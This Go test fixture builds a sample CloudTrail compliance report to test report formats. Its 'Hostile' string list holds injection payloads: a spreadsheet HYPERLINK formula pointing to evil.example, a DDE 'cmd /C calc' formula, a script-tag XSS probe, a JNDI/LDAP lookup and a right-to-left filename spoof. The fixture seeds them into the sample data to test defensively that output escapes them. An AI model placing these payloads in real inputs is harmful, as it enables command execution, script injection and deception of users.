// Package viewtest holds a rich sample report for the tests of the formats:
// every kind of row, more rows than a page holds, and hostile text.
package viewtest

import (
	"fmt"
	"strings"
	"time"

	"github.com/trailproof/trailproof/report/view"
)

// Hostile strings as a customer's tags and names may hold them. A format must
// print them visibly, and neither fail, obey nor silently drop them.
var Hostile = []string{
	"=HYPERLINK(\"http://evil.example\",\"click\")",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"emoji \U0001F600 and \U0001F468\u200D\U0001F469\u200D\U0001F467",
	"right to left \u202egnp.exe\u202c, שלום, مرحبا",
	"combining a\u0301\u0301\u0301, zero width \u200b\ufeff",
	"control \x00 \x07 \x1b[31mred\x1b[0m \r\n\t tab",
	"invalid UTF-8 \xff\xfe\x80",
	"日本語のトレイル 한국어 中文",
	"_x000D_ and <script>alert(1)</script> &amp; ${jndi:ldap://x}",
	"{nb} {{.}} %s %d \\(paren\\)",
	strings.Repeat("a-very-long-token-without-a-break", 12),
}

// Long is text longer than a spreadsheet cell holds (32,767 UTF-16 units).
var Long = strings.Repeat("0123456789", 4000)

var finished = time.Date(2026, 10, 5, 9, 14, 22, 0, time.UTC)

const (
	root  = "9f4c2ab01d77e3c85a4410b6f2d93e7745ac0912fe6b8d3310c7a95548d1e21b"
	trail = "arn:aws:cloudtrail:eu-central-1:111122223333:trail/org-trail-primary"
)

// Sample is a report of five frameworks and 42 checks, two of which were not
// performed, whose numbers agree
// with each other. Each call returns a fresh one.
func Sample() *view.Pack {
	p := &view.Pack{
		Title:      [2]string{"AWS CloudTrail", "Audit Logging Controls"},
		Subtitle:   "Tests of the design and configuration of controls, results and supporting evidence",
		Period:     "1 July 2026 – 30 September 2026",
		PeriodNote: "Observation period, 92 days, UTC",
		Entity:     "Nørdwind Payments, Inc.",
		ID:         "NWP-2026Q3-r2",
		Root:       root,
		Generated:  finished,
		EntityBlock: []view.Pair{
			{Label: "Organisation", Value: "Nørdwind Payments, Inc."},
			{Label: "AWS organization", Value: "o-9x4k2m7q1c", Mono: true},
			{Label: "Accounts in scope", Value: "14 expected, 12 examined"},
			{Label: "Regions in scope", Value: "17 enabled"},
			{Label: "Frameworks", Value: "PCI DSS 4.0.1, ISO/IEC 27001:2022, SOC 2, GDPR, HIPAA"},
		},
		PackBlock: []view.Pair{
			{Label: "Pack ID", Value: "NWP-2026Q3-r2", Mono: true},
			{Label: "Generated", Value: "5 October 2026, 09:14:22 UTC"},
			{Label: "Generator", Value: "trailproof 1.0.0"},
			{Label: "Catalogs", Value: "4c1e7a903fd26b850ce17a94d3f0b86e52917dc4ab03ef6819d54c7e20b8f1a3", Mono: true},
			{Label: "Status", Value: "Final, unsigned"},
		},
		Summary: []string{
			"Forty checks were performed on 40 × 12 subjects, over the full population and without sampling.",
			"Configuration was read when the evidence was collected, and is not evidence of the whole period.",
			"Two of 14 expected accounts could not be examined.",
		},
		Exclusions: []string{"Account 999900001111 (sandbox): suspended, not scanned.", "Hostile name " + Hostile[2]},
		Limits:     []string{"Configuration was read when the evidence was collected.", "CloudTrail does not record data events that were not configured."},
		Sampling:   "The full population was tested; no sampling was applied.",
		Redactions: []string{"Lambda GetFunction: Environment.Variables"},
		Repeat:     []string{"All of it, but the reading of the log files.", "Hostile words " + Hostile[5]},
		Verify:     []string{"trailproof verify NWP-2026Q3-r2.zip", "sha256sum MANIFEST.json"},
		Glossary:   []view.Pair{{Label: "Trail", Value: "A CloudTrail configuration that delivers events to a bucket."}, {Label: "Digest", Value: "A signed list of the log files delivered in an hour."}},
	}
	checks(p)
	frameworks(p)
	scope(p)
	proof(p)
	access(p)
	alerts(p)
	evidenceItems(p)
	figures(p)
	p.Summary = append(p.Summary, p.Proof.Sentences...)
	return p
}

func checks(p *view.Pack) {
	results := view.Results()
	for n := 1; n <= 40; n++ {
		r := view.NoExceptions
		if n%4 == 0 {
			r = results[(n/4-1)%len(results)]
		}
		number := fmt.Sprintf("CT-%02d", n)
		c := view.Check{
			Number: number, ID: fmt.Sprintf("check-of-number-%d", n),
			Title:     fmt.Sprintf("Every trail of the organization satisfies the condition of check %d", n),
			Statement: "Without digest files nobody can show that the logs were not altered after delivery.",
			Family:    "log-validation", Severity: []string{"critical", "high", "medium", "low"}[n%4], Type: "preventive, automated",
			Population: "every cloudtrail.trail, where home_account is set", Parameters: map[bool]string{true: "min_days = 365"}[n%5 == 0],
			Result: r, NotShown: "That the digests were verified; see digest-chain-intact.",
			Remedy: "aws cloudtrail update-trail --name {name} --enable-log-file-validation",
			Why:    "What was found for check " + number + ".",
		}
		for k := 1; k <= 1+n%3; k++ {
			c.Tests = append(c.Tests, view.Test{
				Number: fmt.Sprintf("%s.T%d", number, k), Sentence: "log_file_validation is true",
				Procedure: "Inspected every cloudtrail.trail and determined whether log_file_validation is true.",
				Evidence:  []string{fmt.Sprintf("EV-%06d", n*3), fmt.Sprintf("EV-%06d", n*3+1)}, Result: r,
			})
		}
		subjects(&c, n, r)
		for _, s := range c.Subjects {
			if s.Result != view.Exception && s.Result != view.Waived {
				continue
			}
			e := view.ExceptionItem{
				ID: fmt.Sprintf("EX-%04d", len(p.Exceptions)+1), Check: number, CheckID: c.ID, Title: c.Title,
				Subject: s.ID, Account: s.Account, Region: s.Region, Severity: c.Severity,
				Condition: "log_file_validation was false. " + Hostile[len(p.Exceptions)%len(Hostile)], Criteria: "log_file_validation is true",
				Effect: c.Statement, Correction: c.Remedy, Result: s.Result, Evidence: c.Tests[0].Evidence,
			}
			if s.Result == view.Waived {
				e.Waiver = "WV-0001"
			}
			p.Exceptions = append(p.Exceptions, e)
			p.Attention = append(p.Attention, view.Attention{ID: e.ID, Check: number, What: e.Condition, When: "5 October 2026", Result: s.Result})
		}
		p.Counts[r]++
		p.Tests += len(c.Tests)
		p.Subjects += c.Examined
		p.Checks = append(p.Checks, c)
	}
	for n := 41; n <= 42; n++ {
		number := fmt.Sprintf("CT-%02d", n)
		p.Counts[view.Inconclusive]++
		p.Checks = append(p.Checks, view.Check{
			Number: number, ID: fmt.Sprintf("check-of-number-%d", n), Title: fmt.Sprintf("Nobody may do what check %d is about", n), Severity: "high",
			Family: "least-privilege", Awaits: fmt.Sprintf("Policies that number %d is about are not read.", n), Result: view.Inconclusive,
		})
	}
	p.Waivers = []view.Waiver{
		{ID: "WV-0001", Scope: "check check-of-number-8", Reason: "Build artefacts only; " + Hostile[0], Compensating: "Objects are reproducible.",
			Owner: "Platform", Approver: "CISO", Ticket: "RISK-1", Start: finished.AddDate(0, -1, 0), Expires: finished.AddDate(0, 2, 0), State: "in force", UsedBy: []string{"CT-08"}},
		{ID: "WV-0002", Scope: "PCI DSS 10.3.4", Reason: "Migration.", Owner: "Platform", Approver: "CISO",
			Start: finished.AddDate(0, -6, 0), Expires: finished.AddDate(0, -1, 0), State: "expired"},
	}
}

// subjects gives a check twelve subjects; the first carries the check's result.
func subjects(c *view.Check, n int, result view.Result) {
	for i := range 12 {
		s := view.Subject{ID: trail, Kind: "cloudtrail.trail", Account: fmt.Sprintf("%012d", 11122223333+i), Region: "eu-central-1", Result: view.NoExceptions}
		switch {
		case result == view.NotApplicable:
			s.Result, s.Reason = result, "there is no key"
		case i == 0:
			s.Result, s.Reason = result, Hostile[n%len(Hostile)]
		case i == 1:
			s.ID = "arn:aws:cloudtrail:eu-central-1:111122223333:trail/" + Hostile[n%len(Hostile)]
		}
		truth, gap := "true", ""
		switch s.Result {
		case view.Exception, view.Waived:
			truth = "false"
			c.Deviations++
		case view.Inconclusive, view.NotTested:
			truth, gap = "unknown", "denied cloudtrail:GetTrailStatus: User is not authorized"
			c.Undecided++
		}
		for k := range c.Tests {
			t := &c.Tests[k]
			if s.Result != view.NotApplicable {
				t.Population++
			}
			t.Deviations += map[bool]int{true: 1}[truth == "false"]
			t.Undecided += map[bool]int{true: 1}[truth == "unknown"]
			s.Steps = append(s.Steps, view.Step{Test: t.Number, Sentence: t.Sentence, Got: truth, Truth: truth, Gap: gap, Evidence: t.Evidence})
		}
		c.Subjects = append(c.Subjects, s)
	}
	c.Examined = len(c.Subjects)
	if c.Undecided > 0 {
		c.Unread = []view.Gap{{Account: "444455556666", Region: "me-south-1", Reason: "denied", Action: "cloudtrail:DescribeTrails", Detail: Hostile[5], Evidence: []string{"EV-000007"}}}
	}
}

func frameworks(p *view.Pack) {
	for i, f := range []struct{ id, title, fail string }{
		{"pci-dss-4.0.1", "PCI DSS 4.0.1", "Not in Place"}, {"iso-27001-2022", "ISO/IEC 27001:2022", "Exception noted"},
		{"soc2-2017", "SOC 2 (TSC 2017)", "Exception noted"}, {"gdpr-2016-679", "GDPR (EU) 2016/679", "Exception noted"},
		{"hipaa-security-rule", "HIPAA Security Rule", "Exception noted"},
	} {
		fw := view.Framework{ID: f.id, Title: f.title, Note: "How to read the results of " + f.title + ": a pack is evidence, and no finding."}
		for k := range 12 {
			c := &p.Checks[(i*7+k*3)%len(p.Checks)]
			r := view.Requirement{
				Framework: f.id, Group: fmt.Sprintf("10.%d  Part %d of %s", 1+k/4, 1+k/4, f.title), ID: fmt.Sprintf("10.%d.%d", 1+k/4, 1+k%4), Title: "Audit logs are protected from modification",
				Paraphrase: "Logs must be kept so that nobody, administrators included, can alter or remove them unnoticed.",
				Severity:   c.Severity, Result: c.Result, Words: c.Result.String(), Basis: "tested",
				Checks:   []view.Ref{{Number: c.Number, ID: c.ID, Result: c.Result, Parameters: c.Parameters}},
				NotShown: "That somebody reviews the logs.", Document: "The logging policy.", Why: c.Why,
			}
			if c.Result == view.Exception {
				r.Words = f.fail
			}
			if k == 11 {
				r.Checks, r.Result, r.Words, r.Basis = nil, view.NotTested, "Not tested", "attested"
				r.Attest, r.Inherited = "Are the audit logs reviewed daily?", "The provider's report on "+f.title+"."
				p.Attests = append(p.Attests, view.Attest{Framework: f.title, ID: r.ID, Title: r.Title, Question: r.Attest, Result: view.NotTested})
			}
			if r.Result == view.Inconclusive || r.Result == view.NotTested {
				p.Undecided = append(p.Undecided, view.Undecided{Framework: f.title, ID: r.ID, Title: r.Title, Result: r.Result, Why: c.Why, Needed: "Allow cloudtrail:GetTrailStatus in account 444455556666."})
			}
			if k != 11 {
				c.Criteria = append(c.Criteria, view.Criterion{Framework: f.title, ID: r.ID, Title: r.Title})
				p.Mapping = append(p.Mapping, view.Mapping{Framework: f.title, Criterion: r.ID, Title: r.Title, Check: c.Number, CheckID: c.ID, Result: c.Result})
			}
			fw.Counts[r.Result]++
			fw.Requirements = append(fw.Requirements, r)
		}
		p.Frameworks = append(p.Frameworks, fw)
	}
	p.Attests = append(p.Attests, view.Attest{Framework: "SOC 2 (TSC 2017)", ID: "CC7.2", Title: "Monitoring", Question: "Are anomalies evaluated?", Answer: "yes",
		Statement: "Weekly review, " + Hostile[7], Owner: "SOC lead", File: "controls/attestations/review.pdf", SHA256: root, Date: finished.AddDate(0, -1, 0), Expires: finished.AddDate(1, 0, 0), Result: view.NoExceptions})
}

func scope(p *view.Pack) {
	for i := range 14 {
		a := view.Account{ID: fmt.Sprintf("%012d", 11122223333+i), Name: fmt.Sprintf("prod-%d", i), Status: "ACTIVE", Examined: "yes"}
		switch i {
		case 2:
			a.Name = Hostile[3]
		case 12:
			a.Examined, a.Why = "no", "sts:AssumeRole was denied"
		case 13:
			a.Examined, a.Why, a.Status = "no", "the account is suspended", "SUSPENDED"
		}
		for k := range 17 {
			r := view.Region{Name: fmt.Sprintf("eu-central-%d", k+1), Examined: a.Examined, Recording: "yes", Management: "all"}
			if a.Examined == "no" {
				r.Recording, r.Management, r.Why = "not known", "not known", a.Why
			}
			if i == 3 && k == 4 {
				r.Recording, r.Management = "no", "none"
			}
			a.Regions = append(a.Regions, r)
		}
		p.Accounts = append(p.Accounts, a)
	}
	p.Population = []view.Population{
		{Name: "Accounts", Expected: 14, Examined: 12, Difference: 2, Method: "organizations:ListAccounts, every page"},
		{Name: "Account-regions", Expected: 14 * 17, Examined: 12 * 17, Difference: 2 * 17, Method: "ec2:DescribeRegions in every account"},
		{Name: "Trails", Expected: 3, Examined: 3, Method: "cloudtrail:DescribeTrails in every account and region"},
		{Name: "Log buckets", Expected: 2, Examined: 2, Method: "Named by the trails that were found", ExpectedUnknown: true},
	}
	p.Trails = []view.Trail{
		{Name: "org-trail-primary", ARN: trail, Home: "eu-central-1", Type: "Organization, all regions", Logging: "yes", Validation: "enabled", Key: "arn:aws:kms:eu-central-1:111122223333:key/4b6a", Bucket: "nwp-trail-archive", Evidence: []string{"EV-000001", "EV-000002"}},
		{Name: Hostile[7], ARN: trail + "2", Home: "eu-west-1", Type: "Account, one region", Logging: "not known", Validation: "disabled", Key: "none", Bucket: "vault-ct", Evidence: []string{"EV-000003"}},
		{Name: Hostile[10], ARN: trail + "3", Home: "us-east-1", Type: "Account, all regions", Logging: "no", Validation: "enabled", Key: "none", Bucket: "vault-ct", Evidence: []string{"EV-000004"}},
	}
	for i := range 30 {
		p.Gaps = append(p.Gaps, view.Gap{Account: "444455556666", Region: fmt.Sprintf("eu-central-%d", i+1), Reason: "denied", Action: "cloudtrail:GetTrailStatus",
			Detail: "User: arn:aws:sts::444455556666:assumed-role/audit/x is not authorized. " + Hostile[i%len(Hostile)], Controls: []string{"pci-dss-4.0.1 10.2.1", "soc2-2017 CC7.2"}, Evidence: []string{fmt.Sprintf("EV-%06d", i+1)}})
	}
}

func evidenceItems(p *view.Pack) {
	for n := 1; n <= 130; n++ {
		p.Evidence = append(p.Evidence, item(n, ""))
	}
	for _, c := range p.Checks {
		for _, t := range c.Tests {
			for _, id := range t.Evidence {
				var n int
				fmt.Sscanf(id, "EV-%d", &n)
				p.Evidence[n-1].Tests = append(p.Evidence[n-1].Tests, t.Number)
			}
		}
	}
	p.Calls = len(p.Evidence)
	for _, path := range []string{"assessment.json", "calls.jsonl", "controls/checks.yaml", "snapshot.json", "workbook.xlsx"} {
		p.Files = append(p.Files, view.File{Path: path, Bytes: 123456, SHA256: root})
	}
	for _, e := range p.Evidence {
		p.Files = append(p.Files, view.File{Path: e.File, Bytes: 2345, SHA256: e.SHA256})
	}
}

func item(n int, test string) view.Evidence {
	id := fmt.Sprintf("EV-%06d", n)
	sum := fmt.Sprintf("%064x", n*7919)
	e := view.Evidence{
		ID: id, Call: fmt.Sprintf("c%016x", n), Content: "Status of the trail org-trail-primary", Source: "cloudtrail:GetTrailStatus",
		Account: "111122223333", Region: "eu-central-1", At: finished.Add(-time.Duration(n) * time.Second), RequestID: "6d1f0c2e-8a4b-4f19-9c77-20be13a5d6f0",
		Outcome: "answered", File: "evidence/" + id + ".json", Raw: "raw/" + sum, Bytes: int64(n * 100), SHA256: sum,
		Command: "aws cloudtrail get-trail-status --name " + trail + " --region eu-central-1",
	}
	if test != "" {
		e.Tests = []string{test}
	}
	if n%20 == 0 {
		e.Content, e.Outcome = "Status of the trail "+Hostile[n/20%len(Hostile)], "denied"
	}
	return e
}

func figures(p *view.Pack) {
	decided := p.Counts.Total() - p.Counts[view.Inconclusive] - p.Counts[view.NotTested]
	p.Figures = []view.Figure{
		{Value: fmt.Sprintf("%d%%", 100*decided/p.Counts.Total()), Label: "Checks decided", Note: fmt.Sprintf("%d of %d", decided, p.Counts.Total()), Tone: view.Inconclusive},
		{Value: "12 of 14", Label: "Accounts examined", Note: "204 of 238 account-regions", Tone: view.Exception},
		{Value: "130", Label: "Calls recorded", Note: "124 answered, 6 denied", Tone: view.Inconclusive},
		{Value: fmt.Sprint(len(p.Exceptions)), Label: "Exceptions", Note: "each listed in section 8", Tone: view.Exception},
	}
}
